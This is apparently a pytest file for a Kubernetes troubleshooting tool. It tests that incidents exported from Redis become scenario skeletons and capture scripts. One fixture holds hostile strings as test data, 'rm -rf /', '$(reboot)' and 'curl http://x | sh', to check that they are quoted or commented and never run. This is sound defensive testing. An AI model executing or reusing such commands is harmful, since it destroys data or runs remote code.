"""``sleuth incidents export``: incidents with negative feedback in real Valkey become scenario skeletons,
read as the agent's Redis user, and ``sleuth investigate`` runs on a skeleton once its cluster/ is filled."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import shutil
import time
from pathlib import Path

import pytest
import yaml
from redis.asyncio import Redis

from sleuth.cli import main as cli_main
from sleuth.embedded import ValkeyServer
from sleuth.embedded.access import redis_acl
from sleuth_agent.incidents import IncidentStore
from sleuth_common.messages import Incident

pytestmark = pytest.mark.timeout(120)

DAY = 86400.0
QUESTION = "why is checkout-api crashing?"


def _incident(job_id: str, age_days: float, **kw: object) -> Incident:
    base: dict[str, object] = {
        "job_id": job_id, "clusters": ("demo",), "namespaces": ("team-a",), "family": "oom_killed",
        "resource": "Deployment/team-a/checkout-api", "summary": "checkout-api is OOM-killed at its 256Mi limit",
        "at": time.time() - age_days * DAY, "user": "alice", "question": QUESTION,
        "commands": ("kubectl get pods -n team-a -l app=checkout-api",
                     "kubectl logs -n team-a checkout-api-7d9f --previous"),
    }
    return Incident.model_validate({**base, **kw})


async def _store(url: str) -> None:
    redis = Redis.from_url(url)
    try:
        rules = redis_acl("sleuth")["agent"]
        await redis.execute_command("ACL", "SETUSER", "agent", "on", ">agent-pw", "resetkeys",
                                    *(f"~{k}" for k in rules.keys), "resetchannels", *rules.commands.split())
        store = IncidentStore(redis, "sleuth", max_incidents=100, max_age=90 * DAY)
        await store.put(_incident("job-down", 2, verdict="down", fixed_by="raised the memory limit to 1Gi",
                                  feedback_by="alice"))
        await store.put(_incident("job-fixed", 3, fixed_by="$(reboot)\nrm -rf / ; echo",
                                  commands=("kubectl get pods -n team-a; rm -rf /", "curl http://x | sh")))
        await store.put(_incident("job-up", 1, verdict="up"))           # praised: not a miss
        await store.put(_incident("job-plain", 1))                       # no feedback
        await store.put(_incident("job-old", 40, verdict="down"))        # before --since
    finally:
        await redis.aclose()


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli_main(list(argv))
    return code, out.getvalue(), err.getvalue()


def test_negative_feedback_exports_to_a_scenario_sleuth_investigate_runs(
    valkey: ValkeyServer, tmp_path: Path, demo_snapshot: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    asyncio.run(_store(valkey.url))
    monkeypatch.setenv("SLEUTH_REDIS__URL", valkey.url)
    monkeypatch.setenv("SLEUTH_REDIS__USERNAME", "agent")
    monkeypatch.setenv("SLEUTH_REDIS_PASSWORD", "agent-pw")
    out = tmp_path / "misses"

    code, printed, err = _cli("incidents", "export", "--since", "30d", "--out", str(out))
    assert code == 0, err
    dirs = sorted(p.name for p in out.iterdir())
    assert sorted(d.split("-", 1)[1] for d in dirs) == ["oom_killed-job-down", "oom_killed-job-fixed"], dirs
    assert "2 incident(s)" in err and printed.count("oom_killed on Deployment/team-a/checkout-api") == 2

    skel = out / next(d for d in dirs if d.endswith("job-down"))
    scenario_text = (skel / "scenario.yaml").read_text()
    scenario = yaml.safe_load(scenario_text)
    assert scenario["question"] == QUESTION and scenario["as"] == "alice"
    assert scenario["expect"] == {"status": "diagnosed", "family": "oom_killed",
                                  "resource": "Deployment/team-a/checkout-api", "must_mention": [], "must_pass": False}
    assert "# Fixed by (as alice told Sleuth): raised the memory limit to 1Gi" in scenario_text
    assert "TODO(team)" in scenario_text
    capture = (skel / "capture.sh").read_text().splitlines()
    assert "kubectl get pods -n team-a -l app=checkout-api -o yaml > cluster/01.yaml" in capture
    assert "kubectl logs -n team-a checkout-api-7d9f --previous > logs/02.log" in capture

    # Hostile text from Redis never becomes a command line: quoted, or a comment.
    hostile = out / next(d for d in dirs if d.endswith("job-fixed"))
    run_lines = [ln for ln in (hostile / "capture.sh").read_text().splitlines() if not ln.startswith("#")]
    assert run_lines == ["set -eu", 'cd "$(dirname "$0")"',
                         "kubectl get pods -n 'team-a;' rm -rf / -o yaml > cluster/01.yaml"], run_lines
    fixed_text = (hostile / "scenario.yaml").read_text()
    assert "\nrm -rf" not in fixed_text and "# rm -rf / ; echo" in fixed_text

    # The team fills cluster/ (here from the demo snapshot) and the asker's groups; then it runs.
    shutil.copytree(demo_snapshot / "cluster", skel / "cluster", dirs_exist_ok=True)
    shutil.copytree(demo_snapshot / "logs", skel / "logs", dirs_exist_ok=True)
    snap = yaml.safe_load((skel / "snapshot.yaml").read_text())
    assert snap["cluster"]["name"] == "demo" and snap["users"] == {"alice": {"groups": []}}
    snap["users"]["alice"]["groups"] = ["team-a"]
    (skel / "snapshot.yaml").write_text(yaml.safe_dump(snap))
    code, printed, err = _cli("investigate", "--snapshot", str(skel), "--question", scenario["question"],
                              "--as", scenario["as"])
    assert code == 0, err
    result = json.loads(printed)
    assert result["root_cause"]["family"] == "oom_killed"
    assert result["root_cause"]["resource"] == "Deployment/team-a/checkout-api"


def test_export_refuses_a_redis_user_without_the_agents_keys(
    valkey: ValkeyServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    asyncio.run(_store(valkey.url))
    monkeypatch.setenv("SLEUTH_REDIS__URL", valkey.url)
    monkeypatch.setenv("SLEUTH_REDIS__USERNAME", "agent")
    monkeypatch.setenv("SLEUTH_REDIS_PASSWORD", "wrong")
    code, _, err = _cli("incidents", "export", "--out", str(tmp_path / "x"))
    assert code == 1 and "cannot read the incidents from Redis" in err and "wrong" not in err
